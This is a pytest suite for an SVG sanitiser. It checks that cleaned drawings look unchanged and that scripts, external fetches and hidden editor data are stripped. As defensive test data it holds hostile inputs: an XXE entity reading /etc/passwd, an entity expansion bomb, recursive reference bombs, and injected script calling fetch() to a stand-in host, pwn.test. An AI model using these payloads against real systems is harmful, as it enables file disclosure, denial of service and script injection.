"""SVG is written anew from what may stay: it does nothing, tells nothing and looks as before."""

import base64
import time
from pathlib import Path

import pytest
from browser import Browser
from hypothesis import given
from hypothesis import strategies as st
from pictures import PNG, SECRET

from tamizdat import assets
from tamizdat.assets import stylesheet
from tamizdat.errors import AssetError

HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
CASES = Path(__file__).parent / "cases" / "drawings"
DRAWINGS = {path.stem: path.read_text(encoding="utf-8") for path in CASES.glob("*.svg")}
EDITORS = (CASES / "editors.xml").read_text(encoding="utf-8")
HOSTILE = (CASES / "hostile.txt").read_text(encoding="utf-8").splitlines()
"""Pieces of drawings that would do something, call go() or fetch from pwn.test."""


def clean(text):
    return assets.clean(text.encode() if isinstance(text, str) else text, ".svg")


def inside(text):
    """What is left of something in an SVG."""
    found = clean(f"{HEAD}>{text}</svg>").data.decode()
    return found.partition(">")[2].removesuffix("</svg>\n")


def test_drawings_look_the_same(tmp_path):
    with Browser() as browser:
        for name, drawing in DRAWINGS.items():
            path = tmp_path / f"{name}.svg"
            seen = []
            for data in (drawing.encode(), clean(drawing).data):
                path.write_bytes(data)
                seen.append(browser.open(path, width=500, height=300).picture())
            assert seen[0] == seen[1], name
            path.write_text(f"{HEAD} width='10' height='10'/>")
            assert browser.open(path, width=500, height=300).picture() != seen[0], name


def test_what_is_clean_stays_as_it_is():
    for name, drawing in DRAWINGS.items():
        once = clean(drawing)
        assert once.lost == (), name
        assert clean(once.data).data == once.data


FEATURE = 'requiredFeatures="http://www.w3.org/TR/SVG11/feature#Extensibility"'
LABEL = (
    '<foreignObject width="90" height="30"{}><div xmlns="http://www.w3.org/1999/xhtml">A</div>{}'
)
DIAGRAM = f"""{HEAD} width="121px" height="61px" content="&lt;mxfile&gt;{SECRET}&lt;/mxfile&gt;"
 style="background-color: light-dark(#fff, #121212)"><defs/><g><rect x="0" y="0" width="120"
 height="60" fill="rgb(255, 255, 255)" stroke="rgb(0, 0, 0)" pointer-events="all"
 style="fill: light-dark(#ffffff, var(--ge-dark-color, #121212))"/><g
 transform="translate(-0.5 -0.5)"><switch><foreignObject pointer-events="none" width="100%"
 height="100%" {FEATURE} style="overflow: visible; text-align: left;"><div
 xmlns="http://www.w3.org/1999/xhtml" style="display: flex; width: 118px; padding-top: 30px;"><div
 style="font-family: &quot;Helvetica&quot;;">Label</div></div></foreignObject><text x="60" y="34"
 fill="light-dark(#000, #fff)" font-family="&quot;Helvetica&quot;" font-size="12px"
 text-anchor="middle">Label</text></switch></g></g><switch><g {FEATURE}/><a
 transform="translate(0,-5)" xlink:href="https://example.org/faq" target="_blank"><text
 text-anchor="middle" font-size="10px" x="50%" y="100%">Text is not SVG</text></a></switch></svg>"""
"""As draw.io writes it."""
FLOWCHART = f"""{HEAD} id="m" width="100%" class="flowchart" style="max-width: 176px;"
 viewBox="0 0 176 70" role="graphics-document document" aria-roledescription="flowchart-v2"><style>
#m{{font-family:"trebuchet ms",verdana,arial,sans-serif;font-size:16px;fill:#333;}}@keyframes
 dash{{to{{stroke-dashoffset:0;}}}}#m .marker.cross{{stroke:#333333;}}#m p{{margin:0;}}#m
 :root{{--mermaid-font-family:"trebuchet ms",verdana,arial,sans-serif;}}</style><g><marker
 id="m_end" class="marker" viewBox="0 0 10 10" refX="5" refY="5" markerUnits="userSpaceOnUse"
 markerWidth="8" markerHeight="8" orient="auto"><path d="M 0 0 L 10 5 L 0 10 z"/></marker><g
 class="nodes"><g class="node default" id="flowchart-A-0" transform="translate(88, 35)"><rect
 class="basic label-container" style="" x="-50" y="-27" width="100" height="54"/><g class="label"
 style="" transform="translate(-20, -12)"><rect/>{{}}</g></g></g></g></svg>"""
"""As Mermaid writes it, but for its label."""


def test_words_that_stand_in_for_a_page_are_seen(tmp_path):
    found = clean(DIAGRAM)
    path = tmp_path / "diagram.svg"
    path.write_bytes(found.data)

    assert found.lost == ("<foreignObject> (what the drawing has in its place is shown)",)
    assert SECRET.encode() not in found.data
    seen = "[...document.querySelectorAll('text')].map(t => t.getBoundingClientRect().width > 0)"
    with Browser() as browser:
        assert browser.open(path).ask(seen) == [True, False]


@pytest.mark.parametrize(
    ("piece", "lost"),
    [
        (LABEL.format("", "</foreignObject>"), "<foreignObject> and the words in it (make"),
        (f"<switch>{LABEL.format('', '</foreignObject>')}</switch>", "<foreignObject> and the"),
        ('<foreignObject width="9" height="9"><g/></foreignObject>', "<foreignObject>"),
        (LABEL.format(' requiredExtensions="x"', "</foreignObject>"), ""),
        (f"<switch><g/>{LABEL.format('', '</foreignObject>')}</switch>", ""),
        ("<switch><g/><g><script>go()</script></g></switch>", "<script>"),
        ("<switch><g systemLanguage='x'/><a href='x'/></switch>", "a link"),
        ("<switch><g/></switch><a href='x'/>", "a link"),
        ('<text class="label">A</text>', ""),
    ],
)
def test_words_that_go_with_a_page_are_missed(piece, lost):
    (said,) = clean(FLOWCHART.replace("{}", piece)).lost or ("",)

    assert said.startswith(lost)
    assert bool(said) == bool(lost)


@pytest.mark.parametrize(
    ("piece", "lost"),
    [
        ('<image href="/home/x/the%20banner.png?a#b"/>', "the picture the%20banner.png (embed it)"),
        ('<image href="a.png"/>' * 2, "the picture a.png (embed it)"),
        (
            "".join(f'<image xlink:href="{n}.png"/>' for n in range(5)),
            "the pictures 0.png, 1.png, 2.png and 2 more (embed them)",
        ),
        (
            f'<image href="http://a.example.org/{"x" * 5000}"/>',
            f"the picture {'x' * 40}… (embed it)",
        ),
        (f'<image href="data:image/svg+xml,{"x" * 5000}"/>', "a picture in it that can't be made"),
        ('<a href="https://a.example.org/"><text>x</text></a>', "a link"),
        (f'<use href="data:{"x" * 5000}"/>', "what <use> takes from another file"),
        ('<rect fill="url(a.svg#b)"/>', "a style that leads elsewhere"),
        ('<rect style="fill:url(a.svg#b)"/>', "a style that leads elsewhere"),
    ],
)
def test_what_leads_out_of_a_drawing_is_named_in_few_words(piece, lost):
    (said,) = clean(f"{HEAD}>{piece}</svg>").lost

    assert said.startswith(lost)
    assert len(said) < 100


@pytest.mark.parametrize(
    "css",
    [
        "--a:'http://pwn.test/a'",
        "--a:'//pwn.test'",
        "--a:'a.png'",
        "--a:f('a')",
        "background:image-set(var(--a, 'a') 1x)",
        "content:image-set('a' 1x)",
        "list-style:image-set('a' 1x)",
        "grid-template:url(a)",
        "background:'a'",
    ],
)
def test_a_string_that_may_be_an_address_goes(css):
    assert stylesheet.declarations(css) == ("", True)


def test_what_editors_note_for_themselves_goes_and_nobody_misses_it():
    found = clean(EDITORS.replace("/*Kestrel*/", f"-inkscape-x:'{SECRET}';mso-y:url(x)"))

    assert SECRET.encode() not in found.data
    assert b"pwn.test" not in found.data
    assert b'<rect width="9" height="9"' in found.data
    assert found.lost == ()


def test_nothing_hostile_is_left():
    for line in HOSTILE:
        for piece in ("pwn.test", "go()", "javascript", "xhtml", "data:"):
            assert piece not in inside(line) or "/script&gt;" in inside(line), line


def test_a_browser_runs_and_fetches_nothing(tmp_path):
    """With a control: as they were, they do both."""
    go = "fetch('http://pwn.test/script')"
    asked = {}
    with Browser() as browser:
        for name, made in (("raw", str.encode), ("clean", lambda text: clean(text).data)):
            asked[name] = set()
            for number, line in enumerate(HOSTILE):
                path = tmp_path / f"{name}{number}.svg"
                drawing = f"{HEAD} width='20' height='20'>{line.replace('go()', go)}</svg>"
                path.write_bytes(made(drawing))
                browser.open(path)
                browser.ask("new Promise(done => setTimeout(done, 20))")
                browser.picture()
                asked[name] |= {(number, u) for u in browser.requests if "pwn.test" in u}

    assert asked["clean"] == set()
    assert len({number for number, _ in asked["raw"]}) > 12
    assert any(url.endswith("/script") for _, url in asked["raw"])


BOMB = "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(12))


@pytest.mark.parametrize(
    ("text", "words"),
    [
        (f'<!DOCTYPE svg [<!ENTITY a "ha">{BOMB}]>{HEAD}><text>&m;</text></svg>', "entities"),
        (f'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>{HEAD}>&a;</svg>', "entities"),
        (f'<!DOCTYPE svg SYSTEM "a.dtd">{HEAD}>&nbsp;</svg>', "entities"),
        (f"{HEAD}><text>&nbsp;</text></svg>", "not valid XML in its line 1"),
        ("<svg><rect/></svg>", "first element"),
        (f"{HEAD}>\n<rect></svg>", "not valid XML in its line 2"),
        (f"{HEAD}/><script/>", "not valid XML"),
        (f"{HEAD}>" + "<g>" * 200_000, "without end"),
        (f"{HEAD}><style>" + "a{" * 100_000 + "</style></svg>", "nested"),
        (f"{HEAD}><rect fill='{'(' * 100_000}'/></svg>", "nested"),
        (f"{HEAD}><rect style='x:{'f(' * 100_000}'/></svg>", "nested"),
        (f'<?xml version="1.0" encoding="x-none"?>{HEAD}/>', "not valid XML"),
    ],
)
def test_what_cannot_be_cleaned_is_refused_at_once(text, words):
    start = time.process_time()

    with pytest.raises(AssetError, match=words):
        clean(text)

    assert time.process_time() - start < 5


def levels(part, *, deep=6):
    """A drawing of levels, each of which refers ten times to the one below; `{}` is its number."""
    groups = "".join(f"<g id='g{n + 1}'>{part.format(n) * 10}</g>" for n in range(deep))
    return f"<g id='g0'><rect width='1' height='1'/></g>{groups}"


@pytest.mark.parametrize(
    "text",
    [
        levels("<use href='#g{}'/>"),
        levels("<use xlink:href='#%67{}'/>"),
        levels("<rect mask='url(#g{})'/>"),
        levels("<rect clip-path='\\75rl(\"#g{}\")'/>"),
        levels("<rect style='marker-end:url(#g{})'/>"),
        levels("<rect style='--a:url(#g{})'/>"),
        levels("<rect><set attributeName='fill' to='url(#g{})'/></rect>"),
        levels("<filter><feImage href='#g{}'/></filter>"),
        levels("<rect class='c{}'/>")
        + "<style>"
        + "".join(f".c{n}{{fill:url(#g{n})}}" for n in range(7))
        + "</style>",
        levels("<g fill='url(#g{})'>" + "<path/>" * 10 + "</g>", deep=3),
        levels("<use href='#g0' fill='url(#g{})'/>"),
        "".join(f"<g id='g{n}'><use href='#g{n + 1}'/></g>" for n in range(90)),
        "<g id='a'>" + "<path/>" * 9000 + "</g>" + "<use href='#a'/>" * 9000,
    ],
)
def test_a_drawing_that_grows_without_end_is_refused(text):
    start = time.process_time()

    with pytest.raises(AssetError, match="without end"):
        inside(text)

    assert time.process_time() - start < 5


@pytest.mark.parametrize(
    "text",
    [
        levels("<use href='#g{}'/>", deep=3),
        "<path id='a'/><clipPath id='c'><path/></clipPath><g clip-path='url(#c)'>"
        + "<use href='#a'/>" * 30_000
        + "</g>",
        "<style>rect{fill:url(#p)}.x path{clip-path:url(#c)}</style>"
        "<pattern id='p'><path/></pattern><clipPath id='c'><circle/></clipPath>"
        + "<rect/>"
        * 9_000,
        "<g id='a'><use href='#b'/></g><g id='b'><use href='#a'/></g>",
        "<a id='a' href='#a'><text>x</text></a><path fill='url(#none)'/>",
    ],
)
def test_symbols_and_patterns_are_published(text):
    assert inside(text)


def test_other_encodings_become_utf8():
    text = f'<?xml version="1.0" encoding="utf-16"?>{HEAD}><text>é Ω</text></svg>'
    assert "é Ω" in clean(text.encode("utf-16")).data.decode()
    text = text.replace("utf-16", "iso-8859-7").replace("é", "e")
    assert "e Ω" in clean(text.encode("iso-8859-7")).data.decode()


def test_a_picture_inside_is_clean_and_one_that_cannot_be_goes():
    secret = base64.b64encode(PNG + SECRET.encode()).decode()
    assert base64.b64encode(PNG).decode() in inside(
        f'<image href="data:image/png;base64,{secret}"/>'
    )
    found = clean(f'{HEAD}><image href="data:image/png;base64,{secret[:40]}"/></svg>')
    assert found.lost == ("a picture in it that can't be made clean",)
    assert b"<image/>" in found.data


def test_characters_that_no_xml_has_are_written_as_css_writes_them():
    found = clean(f"{HEAD}><style>[\\1 a]{{fill:red}}</style><g style='--a:\\1 b'/></svg>").data

    assert b"<style>[\\1 a]{fill:red}</style>" in found
    assert clean(found).data == found


def test_fonts_that_are_part_of_the_file_stay():
    source = 'url(data:font/woff2;base64,d09G) format("woff2"),local("y")'
    css = f'@font-face{{font-family:"x";src:{source}}}'
    assert stylesheet.rules(css) == (css, False)


@given(st.text("az{}()[];:'\"\\/*@#,-url <>!", max_size=60))
def test_any_stylesheet_is_cleaned_and_then_stays(css):
    try:
        once, _ = stylesheet.rules(css)
        assert stylesheet.rules(once) == (once, False)
        assert isinstance(stylesheet.stays(css), bool)
    except AssetError:
        pass


@given(st.binary(max_size=200), st.integers(0, len(EDITORS)))
def test_damage_is_refused_or_cleaned_and_nothing_else(extra, place):
    data = EDITORS.encode()
    try:
        once = clean(data[:place] + extra + data[place:])
    except AssetError:
        return
    assert clean(once.data).data == once.data
